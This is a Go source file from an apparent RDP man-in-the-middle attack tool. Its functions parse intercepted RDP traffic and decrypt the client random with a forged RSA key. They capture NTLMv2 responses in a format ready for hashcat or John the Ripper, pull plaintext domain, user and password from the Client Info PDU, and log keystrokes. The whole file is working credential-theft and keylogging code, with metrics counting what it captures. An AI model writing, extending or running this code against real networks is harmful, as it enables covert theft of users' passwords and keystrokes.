package rdpmitm

import (
	"bytes"
	"fmt"
)

// ntlmsspSignature is the 8-byte NTLMSSP message signature ("NTLMSSP\x00"),
// common to every NTLM message type.
var ntlmsspSignature = []byte("NTLMSSP\x00")

var ntlmType2Marker = append(append([]byte{}, ntlmsspSignature...), 0x02, 0x00, 0x00, 0x00)
var ntlmType3Marker = append(append([]byte{}, ntlmsspSignature...), 0x03, 0x00, 0x00, 0x00)

// extractServerCertificate recognizes the GCC Server Security Data block
// (header type 0x0c02, little-endian bytes 0x02,0x0c) carrying the
// Proprietary Certificate, and populates the session's server-side crypto
// fields. It anchors on the last occurrence of the 0x02,0x0c marker in the
// frame, since the block can also appear nested inside earlier GCC
// structures that aren't the one carrying key material.
func extractServerCertificate(frame []byte, s *Session) bool {
	marker := []byte{0x02, 0x0c}
	idx := lastIndex(frame, marker)
	if idx < 0 {
		return false
	}
	offset := idx + 2

	r := newByteReader(frame)
	r.seek(offset)
	_ = r.u16le() // size, not otherwise used
	encryptionMethod := r.u32le()
	_ = encryptionMethod
	_ = r.u32le() // encryption_level
	serverRandomLen := int(r.u32le())
	serverCertLen := int(r.u32le())
	if !r.ok() || serverRandomLen < 0 || serverCertLen < 0 {
		return false
	}

	serverRandom := substr(frame, offset+18, serverRandomLen)
	serverCert := substr(frame, offset+18+serverRandomLen, serverCertLen)
	if len(serverCert) < 16 {
		return false
	}

	cr := newByteReader(serverCert)
	dwVersion := cr.u32le()
	dwSigAlg := cr.u32le()
	dwKeyAlg := cr.u32le()
	pubkeyType := cr.u16le()
	pubkeyLen := int(cr.u16le())
	if !cr.ok() {
		return false
	}
	pubkey := substr(serverCert, 16, pubkeyLen)
	if len(pubkey) < 4 || !bytes.Equal(pubkey[:4], []byte("RSA1")) {
		return false
	}

	sr := newByteReader(serverCert)
	sr.seek(16 + pubkeyLen)
	signType := sr.u16le()
	_ = signType
	signLen := int(sr.u16le())
	sign := substr(serverCert, 20+pubkeyLen, signLen)

	pr := newByteReader(pubkey)
	pr.seek(4)
	keyLen := int(pr.u32le())
	bitLen := pr.u32le()
	if bitLen != uint32(keyLen*8-64) {
		return false
	}
	dataLen := pr.u32le()
	pubExp := pr.u32le()
	modulus := substr(pubkey, 20, keyLen)
	if len(modulus) != keyLen {
		return false
	}

	first5fields := make([]byte, 0, 16)
	first5fields = le.AppendUint32(first5fields, dwVersion)
	first5fields = le.AppendUint32(first5fields, dwSigAlg)
	first5fields = le.AppendUint32(first5fields, dwKeyAlg)
	first5fields = le.AppendUint16(first5fields, pubkeyType)
	first5fields = le.AppendUint16(first5fields, uint16(pubkeyLen))

	s.crypto.serverModulus = modulus
	s.crypto.serverPubExponent = pubExp
	s.crypto.serverDataLen = dataLen
	s.crypto.serverRandom = serverRandom
	s.crypto.serverSign = sign
	s.crypto.serverFirst5Fields = first5fields
	s.crypto.serverPubkeyBlob = pubkey
	s.crypto.serverCertSeen = true

	s.logger.Capture(fmt.Sprintf("Server cert modulus: %x\nSignature: %x\nServer random: %x",
		modulus, sign, serverRandom))
	return true
}

// extractClientRandom recovers the client's pre-master secret from the
// Security Exchange PDU by looking for a 4-byte little-endian length field
// whose value equals the remaining bytes in the frame, then decrypting
// that ciphertext with the forged RSA key. It only runs once a server
// certificate has been observed and client_rand has not yet been
// recovered, which eliminates false positives from running this raw
// length-matching heuristic against every frame.
func extractClientRandom(frame []byte, s *Session) bool {
	if !s.crypto.serverCertSeen || s.crypto.clientRand != nil {
		return false
	}
	if s.crypto.forgedKey == nil {
		return false
	}
	for i := 7; i < len(frame)-4; i++ {
		if int(le.Uint32(frame[i:i+4])) == len(frame)-i-4 {
			ciphertext := frame[i+4:]
			s.crypto.encClientRand = ciphertext
			s.crypto.clientRand = rsaDecryptLE(ciphertext, s.crypto.forgedKey)
			if err := s.establishKeys(); err != nil {
				s.logger.Warn("session key derivation failed: %v", err)
				return false
			}
			s.logger.Capture(fmt.Sprintf("Client random: %x", s.crypto.clientRand))
			return true
		}
	}
	return false
}

// extractServerChallenge recognizes an NTLMSSP Type 2 (CHALLENGE) message
// and captures the 8-byte server challenge 12 bytes past the end of the
// signature+type match.
func extractServerChallenge(frame []byte, s *Session) bool {
	idx := bytes.Index(frame, ntlmType2Marker)
	if idx < 0 {
		return false
	}
	offset := idx + len(ntlmType2Marker) + 12
	challenge := substr(frame, offset, 8)
	if len(challenge) != 8 {
		return false
	}
	s.serverChallenge = challenge
	s.logger.Capture(fmt.Sprintf("Server challenge: %x", challenge))
	return true
}

// extractNTLMv2Response recognizes an NTLMSSP Type 3 (AUTHENTICATE)
// message and parses its six security-buffer triplets to recover the
// domain, user, and NT response, emitting a hashcat/JtR-compatible offline
// cracking line.
func extractNTLMv2Response(frame []byte, s *Session) bool {
	idx := bytes.Index(frame, ntlmType3Marker)
	if idx < 0 {
		return false
	}
	offset := idx + len(ntlmType3Marker)
	headerStart := idx

	keys := []string{"lmstruct", "ntstruct", "domain", "user", "workstation", "encryption_key"}
	values := make(map[string][]byte, len(keys))

	for i, key := range keys {
		field := substr(frame, offset+i*8, 8)
		if len(field) != 8 {
			return false
		}
		length := int(le.Uint16(field[0:2]))
		fieldOffset := int(le.Uint32(field[4:8]))
		thisOffset := headerStart + fieldOffset
		values[key] = substr(frame, thisOffset, length)
	}

	ntstruct := values["ntstruct"]
	if len(ntstruct) < 16 {
		return false
	}
	ntResponse := ntstruct[:16]
	jtrBlob := ntstruct[16:]

	s.ntResponse = append([]byte{}, ntResponse...)

	challenge := s.serverChallenge
	if challenge == nil {
		challenge = []byte("SERVER_CHALLENGE_MISSING")
	}

	user := decodeUTF16LE(values["user"])
	domain := decodeUTF16LE(values["domain"])

	s.logger.Capture(fmt.Sprintf("%s::%s:%x:%x:%x", user, domain, challenge, ntResponse, jtrBlob))
	if s.metrics != nil {
		s.metrics.CredentialsCapturedTotal.WithLabelValues("ntlmv2").Inc()
	}
	return true
}

// extractClientInfo recognizes the Client Info PDU (INFO_PASSWORD-bearing
// flags byte fixed at offset 15) and emits the plaintext domain/user/
// password.
func extractClientInfo(frame []byte, s *Session) bool {
	if len(frame) < 32 || frame[15] != 0x40 {
		return false
	}
	domLen := int(be.Uint16(frame[26:28]))
	userLen := int(be.Uint16(frame[28:30]))
	pwLen := int(be.Uint16(frame[30:32]))
	if domLen+userLen+pwLen >= len(frame) {
		return false
	}

	const stringsOffset = 37
	domain := decodeUTF16LE(substr(frame, stringsOffset, domLen))
	user := decodeUTF16LE(substr(frame, stringsOffset+domLen+2, userLen))
	password := decodeUTF16LE(substr(frame, stringsOffset+domLen+2+userLen+2, pwLen))

	s.logger.Capture(fmt.Sprintf(`%s\%s:%s`, domain, user, password))
	if s.metrics != nil {
		s.metrics.CredentialsCapturedTotal.WithLabelValues("clientinfo").Inc()
	}
	return true
}

// extractKeyboardLayout recognizes the Client Core Data keyboard layout
// block (marker 0x0d,0x00 followed by a u16-LE length) and captures the
// four u32-LE {layout,type,subtype,funckey} fields. The search runs from
// the end of the frame backward so that, when more than one candidate
// match exists, the rightmost one wins — mirroring how a greedy regex
// backtracks over the same bytes.
func extractKeyboardLayout(frame []byte, s *Session) bool {
	marker := []byte{0x0d, 0x00}
	const tailLen = 88 // 2 (marker) + 2 (length) + 82 (filler) + 2 (trailing 00 00)

	for idx := len(frame) - tailLen; idx >= 0; idx-- {
		if !bytes.Equal(frame[idx:idx+2], marker) {
			continue
		}
		if !bytes.Equal(frame[idx+86:idx+88], []byte{0x00, 0x00}) {
			continue
		}
		length := int(le.Uint16(frame[idx+2 : idx+4]))
		matchEnd := idx + tailLen
		offset := matchEnd - length + 8
		fields := substr(frame, offset, 16)
		if len(fields) != 16 {
			continue
		}
		s.keyboard = keyboardInfo{
			Layout:  le.Uint32(fields[0:4]),
			Type:    le.Uint32(fields[4:8]),
			Subtype: le.Uint32(fields[8:12]),
			FuncKey: le.Uint32(fields[12:16]),
		}
		s.logger.Capture(fmt.Sprintf("Keyboard layout/type/subtype: 0x%x/0x%x/0x%x",
			s.keyboard.Layout, s.keyboard.Type, s.keyboard.Subtype))
		return true
	}
	return false
}

// checkNLAEnforced recognizes the server's terminal rejection of every
// downgrade attempt: a byte sequence ending in the literal suffix below,
// which in practice means the server mandates NLA/CredSSP and the proxy
// cannot observe credentials from this target.
func checkNLAEnforced(frame []byte) bool {
	suffix := []byte{0x00, 0x03, 0x00, 0x08, 0x00, 0x05, 0x00, 0x00, 0x00}
	if len(frame) < 2 || frame[0] != 0x03 || frame[1] != 0x00 {
		return false
	}
	return bytes.HasSuffix(frame, suffix)
}

// safeExtract runs one recognizer with its own panic recovery, so a bug in
// one pattern's field arithmetic never aborts the frame for the others.
func (s *Session) safeExtract(name string, fn func()) {
	defer func() {
		if r := recover(); r != nil {
			s.logger.Warn("extractor %s panicked: %v", name, r)
		}
	}()
	fn()
}

// runExtractors runs every recognizer against one reassembled frame
// (header || cleartext), returning ErrNLAEnforced if the server's
// NLA-enforcement signature is observed.
func runExtractors(frame []byte, fromClient bool, s *Session) error {
	if fromClient {
		s.safeExtract("clientInfo", func() { extractClientInfo(frame, s) })
	}
	s.safeExtract("serverChallenge", func() { extractServerChallenge(frame, s) })
	s.safeExtract("ntlmv2Response", func() { extractNTLMv2Response(frame, s) })
	s.safeExtract("clientRandom", func() { extractClientRandom(frame, s) })
	s.safeExtract("serverCertificate", func() { extractServerCertificate(frame, s) })
	if fromClient {
		s.safeExtract("keyboardLayout", func() { extractKeyboardLayout(frame, s) })
	}
	s.safeExtract("keystrokes", func() {
		if len(frame) <= 3 {
			return
		}
		if frame[len(frame)-2] > 3 {
			return
		}
		for _, line := range decodeKeystrokes(frame) {
			s.logger.Capture(line)
			if s.metrics != nil {
				s.metrics.KeystrokesCapturedTotal.Inc()
			}
		}
	})

	if checkNLAEnforced(frame) {
		return ErrNLAEnforced
	}
	return nil
}

// lastIndex returns the last index at which sep occurs in b, or -1.
func lastIndex(b, sep []byte) int {
	for i := len(b) - len(sep); i >= 0; i-- {
		if bytes.Equal(b[i:i+len(sep)], sep) {
			return i
		}
	}
	return -1
}
